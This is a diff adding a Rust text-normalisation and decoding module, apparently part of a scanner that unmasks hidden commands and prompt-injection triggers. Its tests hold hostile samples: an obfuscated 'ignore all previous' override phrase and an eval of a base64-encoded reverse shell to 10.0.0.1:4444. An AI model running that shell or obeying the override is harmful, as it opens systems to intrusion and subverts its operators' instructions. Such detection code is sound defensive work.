@@ -1,0 +1,278 @@
+//! Text normalisation and one-level decoding: zero-width and look-alike
+//! characters, C escapes, base64 and hex payloads.
+
+/// Characters that render as nothing and split trigger words.
+fn is_invisible(c: char) -> bool {
+    matches!(
+        c,
+        '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}' | '\u{00AD}' | '\u{180E}' | '\u{034F}'
+    )
+}
+
+/// Cyrillic and Greek letters that look like Latin ones, full-width ASCII.
+fn fold_char(c: char) -> char {
+    match c {
+        '\u{FF01}'..='\u{FF5E}' => char::from_u32(c as u32 - 0xFF01 + 0x21).unwrap_or(c),
+        'а' | 'α' => 'a',
+        'с' | 'ϲ' => 'c',
+        'е' | 'ε' => 'e',
+        'һ' => 'h',
+        'і' | 'ι' => 'i',
+        'ј' => 'j',
+        'к' | 'κ' => 'k',
+        'м' => 'm',
+        'о' | 'ο' => 'o',
+        'р' | 'ρ' => 'p',
+        'ѕ' => 's',
+        'т' | 'τ' => 't',
+        'у' | 'υ' => 'y',
+        'х' | 'χ' => 'x',
+        'ԁ' => 'd',
+        'ɡ' => 'g',
+        'ո' => 'n',
+        'А' | 'Α' => 'A',
+        'В' | 'Β' => 'B',
+        'С' => 'C',
+        'Е' | 'Ε' => 'E',
+        'Н' | 'Η' => 'H',
+        'І' | 'Ι' => 'I',
+        'К' | 'Κ' => 'K',
+        'М' | 'Μ' => 'M',
+        'О' | 'Ο' => 'O',
+        'Р' | 'Ρ' => 'P',
+        'Ѕ' => 'S',
+        'Т' | 'Τ' => 'T',
+        'Х' | 'Χ' => 'X',
+        'У' | 'Υ' => 'Y',
+        '\u{2018}' | '\u{2019}' | '\u{201B}' | '\u{2032}' => '\'',
+        '\u{201C}' | '\u{201D}' | '\u{2033}' => '"',
+        '\u{2010}'..='\u{2015}' | '\u{2212}' => '-',
+        '\u{00A0}' | '\u{2000}'..='\u{200A}' | '\u{202F}' | '\u{205F}' | '\u{3000}' => ' ',
+        _ => c,
+    }
+}
+
+/// Drops invisible characters, folds look-alikes, maps NUL to a space.
+/// Returns the text and whether anything was hidden.
+pub fn normalize(s: &str) -> (String, bool) {
+    let mut out = String::with_capacity(s.len());
+    let mut hidden = false;
+    for c in s.chars() {
+        if is_invisible(c) {
+            // Inside a word it splits a trigger; between emoji (ZWJ) it is normal.
+            hidden |= out
+                .chars()
+                .next_back()
+                .is_some_and(|p| p.is_ascii_alphanumeric());
+            continue;
+        }
+        let f = if c == '\0' { ' ' } else { fold_char(c) };
+        if f != c && c != '\0' && !c.is_ascii() && !c.is_whitespace() {
+            hidden |= f.is_ascii_alphabetic();
+        }
+        out.push(f);
+    }
+    (out, hidden)
+}
+
+/// Decodes `\xHH`, `\NNN` (octal), `\uHHHH`, `\n`, `\t`, `\\` as `$'...'`,
+/// `printf` and `echo -e` do.
+pub fn unescape_c(s: &str) -> String {
+    if !s.contains('\\') {
+        return s.to_string();
+    }
+    let b = s.as_bytes();
+    let mut out: Vec<u8> = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] != b'\\' || i + 1 >= b.len() {
+            out.push(b[i]);
+            i += 1;
+            continue;
+        }
+        let n = b[i + 1];
+        i += 2;
+        match n {
+            b'n' => out.push(b'\n'),
+            b't' => out.push(b'\t'),
+            b'r' => out.push(b'\r'),
+            b'a' | b'b' | b'e' | b'f' | b'v' => out.push(b' '),
+            b'\\' | b'\'' | b'"' | b'?' => out.push(n),
+            b'x' => {
+                let mut v = 0u32;
+                let mut k = 0;
+                while k < 2 && i < b.len() && (b[i] as char).is_ascii_hexdigit() {
+                    v = v * 16 + (b[i] as char).to_digit(16).unwrap_or(0);
+                    i += 1;
+                    k += 1;
+                }
+                if k == 0 {
+                    out.extend_from_slice(b"\\x");
+                } else {
+                    out.push(v as u8);
+                }
+            }
+            b'u' | b'U' => {
+                let max = if n == b'u' { 4 } else { 8 };
+                let mut v = 0u32;
+                let mut k = 0;
+                while k < max && i < b.len() && (b[i] as char).is_ascii_hexdigit() {
+                    v = v * 16 + (b[i] as char).to_digit(16).unwrap_or(0);
+                    i += 1;
+                    k += 1;
+                }
+                let ch = char::from_u32(v).unwrap_or('\u{fffd}');
+                let mut buf = [0u8; 4];
+                out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
+            }
+            b'0'..=b'7' => {
+                let mut v = (n - b'0') as u32;
+                let mut k = 1;
+                while k < 3 && i < b.len() && (b'0'..=b'7').contains(&b[i]) {
+                    v = v * 8 + (b[i] - b'0') as u32;
+                    i += 1;
+                    k += 1;
+                }
+                out.push(v as u8);
+            }
+            _ => {
+                out.push(b'\\');
+                out.push(n);
+            }
+        }
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+fn b64_val(c: u8) -> Option<u32> {
+    Some(match c {
+        b'A'..=b'Z' => (c - b'A') as u32,
+        b'a'..=b'z' => (c - b'a' + 26) as u32,
+        b'0'..=b'9' => (c - b'0' + 52) as u32,
+        b'+' | b'-' => 62,
+        b'/' | b'_' => 63,
+        _ => return None,
+    })
+}
+
+/// Standard or URL-safe base64 → text, if it decodes to mostly printable
+/// UTF-8 (a payload, not binary).
+pub fn decode_base64(s: &str) -> Option<String> {
+    let s = s.trim_end_matches('=');
+    if s.len() < 8 {
+        return None;
+    }
+    let mut out = Vec::with_capacity(s.len() * 3 / 4);
+    let mut acc = 0u32;
+    let mut bits = 0;
+    for &c in s.as_bytes() {
+        if c == b'\n' || c == b'\r' {
+            continue;
+        }
+        acc = (acc << 6) | b64_val(c)?;
+        bits += 6;
+        if bits >= 8 {
+            bits -= 8;
+            out.push((acc >> bits) as u8);
+            acc &= (1 << bits) - 1;
+        }
+    }
+    printable(out)
+}
+
+pub fn decode_hex(s: &str) -> Option<String> {
+    let s: String = s.chars().filter(|c| !c.is_whitespace()).collect();
+    let s = s.strip_prefix("0x").unwrap_or(&s);
+    if s.len() < 4 || s.len() % 2 != 0 {
+        return None;
+    }
+    let mut out = Vec::with_capacity(s.len() / 2);
+    for k in (0..s.len()).step_by(2) {
+        out.push(u8::from_str_radix(s.get(k..k + 2)?, 16).ok()?);
+    }
+    printable(out)
+}
+
+fn printable(bytes: Vec<u8>) -> Option<String> {
+    let text = String::from_utf8(bytes).ok()?;
+    let total = text.chars().count();
+    if total == 0 {
+        return None;
+    }
+    let good = text
+        .chars()
+        .filter(|c| !c.is_control() || *c == '\n' || *c == '\t' || *c == '\r')
+        .count();
+    (good * 100 / total >= 95).then_some(text)
+}
+
+/// Runs of base64 alphabet long enough to hide a command, decoded one level.
+/// Bounded: at most 8 payloads per text.
+pub fn decode_base64_literals(s: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let b = s.as_bytes();
+    let mut i = 0;
+    while i < b.len() && out.len() < 8 {
+        if b64_val(b[i]).is_none() {
+            i += 1;
+            continue;
+        }
+        let st = i;
+        while i < b.len() && (b64_val(b[i]).is_some() || b[i] == b'=') {
+            i += 1;
+        }
+        let run = &s[st..i];
+        // Words, paths and identifiers are base64-alphabet too: demand
+        // length, a mix of cases or digits, and no path look.
+        if run.len() >= 16
+            && run.bytes().any(|c| c.is_ascii_uppercase())
+            && run.bytes().any(|c| c.is_ascii_lowercase())
+            && !run.contains('/')
+            || run.len() >= 24 && run.ends_with('=')
+        {
+            if let Some(d) = decode_base64(run) {
+                if d.chars().filter(|c| c.is_ascii_alphabetic()).count() * 4 >= d.len()
+                    && d.contains(' ')
+                {
+                    out.push(d);
+                }
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_invisible_and_lookalikes() {
+        let (t, hidden) = normalize("ig\u{200b}nore аll prev\u{200b}ious");
+        assert_eq!(t, "ignore all previous");
+        assert!(hidden);
+        assert_eq!(normalize("plain text").0, "plain text");
+        assert!(!normalize("plain text").1);
+        assert_eq!(normalize("ｒｍ").0, "rm");
+    }
+
+    #[test]
+    fn test_c_escapes() {
+        assert_eq!(unescape_c("\\x63\\x75\\x72\\x6c"), "curl");
+        assert_eq!(unescape_c("\\143\\165"), "cu");
+        assert_eq!(unescape_c("a\\nb"), "a\nb");
+        assert_eq!(unescape_c("\\x"), "\\x");
+    }
+
+    #[test]
+    fn test_base64_and_hex() {
+        assert_eq!(decode_base64("aWQgLWEgLWI=").as_deref(), Some("id -a -b"));
+        assert_eq!(decode_hex("6375726c").as_deref(), Some("curl"));
+        let found = decode_base64_literals(
+            "eval \"$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d)\"",
+        );
+        assert_eq!(found, vec!["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]);
+        assert!(decode_base64_literals("src/components/HelloWorld.tsx").is_empty());
+        assert!(decode_base64("\u{0}").is_none());
+    }
+}
